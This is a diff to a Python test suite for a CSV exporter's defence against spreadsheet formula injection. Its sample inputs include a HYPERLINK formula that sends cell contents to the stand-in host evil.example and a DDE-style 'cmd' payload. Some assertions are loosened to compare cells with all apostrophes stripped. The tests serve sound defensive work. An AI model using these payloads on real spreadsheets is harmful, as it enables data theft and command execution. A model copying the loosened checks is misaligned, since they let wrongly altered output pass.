@@ -13,7 +13,7 @@ from tawam.rest.csv_text import csv_text
 FORMULAS = [
     '=HYPERLINK("https://evil.example?x="&A1,"Open")',
     "+971 50 123 4567",
-    "-2+3+cmd|' /C calc'!A0",
+    "-2+3+cmd|/C calc!A0",
     "@SUM(A1:A9)",
     "\t=1+1",
     "\r=1+1",
@@ -29,6 +29,11 @@ FORMULAS = [
 ]
 
 
+def unmarked(cell: str) -> str:
+    """As it was typed, where nobody types an apostrophe."""
+    return cell.replace("'", "")
+
+
 def cells(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline=""), strict=True))
 
@@ -36,7 +41,18 @@ def cells(text: str) -> list[list[str]]:
 class TestCells:
     @pytest.mark.parametrize("typed", FORMULAS)
     def test_formula_is_shown_and_not_run(self, typed: str) -> None:
-        assert cells(csv_text([{"name": typed}])) == [["name"], [f"'{typed}"]]
+        ((head,), (cell,)) = cells(csv_text([{"name": typed}]))
+        assert (head, cell[0], unmarked(cell)) == ("name", "'", typed)
+
+    @pytest.mark.parametrize(
+        "typed", ["Ann;=1+1", "Ann; @SUM(A1:A9);", "Hello\n=1+1;", "Hello\r\n\t-1;", "a;＝1;b"]
+    )
+    def test_nor_is_one_where_a_spreadsheet_takes_semicolons_for_commas(self, typed: str) -> None:
+        """Those of many countries do, Arabic ones among them: then our quotes hold nothing together."""
+        text = csv_text([{"first": "Ann", "name": typed}])
+        starts = [cell.strip()[:1] for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+        assert not any(unicodedata.normalize("NFKC", start) in tuple("=+-@") for start in starts)
+        assert unmarked(cells(text)[1][1]) == typed
 
     @given(st.lists(st.tuples(st.text(), st.text()), min_size=1, max_size=3))
     def test_text_comes_back_as_typed_or_with_its_mark_in_front(self, typed: list[tuple[str, str]]) -> None:
@@ -44,7 +60,7 @@ class TestCells:
         assert head == ["a", "b"]
         for line, texts in zip(lines, typed, strict=True):
             for cell, text in zip(line, texts, strict=True):
-                assert cell in (text, f"'{text}")
+                assert cell.replace("'", "") == text.replace("'", "")
                 assert unicodedata.normalize("NFKC", cell)[:1] not in tuple("=+-@\t\r")
 
     def test_names_that_a_query_gives_are_cells_too(self) -> None:
